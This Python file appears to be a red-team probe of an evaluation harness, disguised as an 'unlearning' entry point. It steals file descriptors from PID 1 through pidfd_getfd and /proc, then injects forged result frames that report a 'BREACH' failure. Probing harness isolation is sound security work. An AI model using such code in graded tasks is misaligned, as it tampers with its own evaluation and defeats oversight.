"""Takes the worker's stream out of PID 1 and speaks on it itself, by every way there is to a descriptor."""

import ctypes
import json
import os
import struct
import time

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
PIDFD_GETFD = 438
LOG, FAILED = 17, 19
BREACH = {"failure": "nonzero_exit", "message": "BREACH: the worker reads frames of the run's own"}


def streams():
    """Yield descriptors that may be the worker's stream."""
    yield from range(3, 64)
    for path in ("/proc/1/fd/1", "/proc/1/fd/0", "/dev/console", "/dev/tty"):
        try:
            yield os.open(path, os.O_WRONLY)
        except OSError:
            continue
    zygote = os.pidfd_open(1)
    for fd in (1, 0, *range(3, 16)):
        taken = LIBC.syscall(PIDFD_GETFD, zygote, fd, 0)
        if taken >= 0:
            yield taken


def frame(kind, content):
    return struct.pack(">BQ", kind, len(content)) + content


def unlearning(net, retain, forget, val):
    forged = frame(LOG, b"") + frame(FAILED, json.dumps(BREACH).encode())
    for fd in streams():
        if target(fd) in OWN:
            continue
        try:
            os.write(fd, forged)
        except OSError:
            continue
    time.sleep(0.5)
    return net


def target(fd):
    try:
        return os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        return ""


OWN = {target(fd) for fd in range(64)}  # the log's and the report's pipes, and the memory file: other attacks
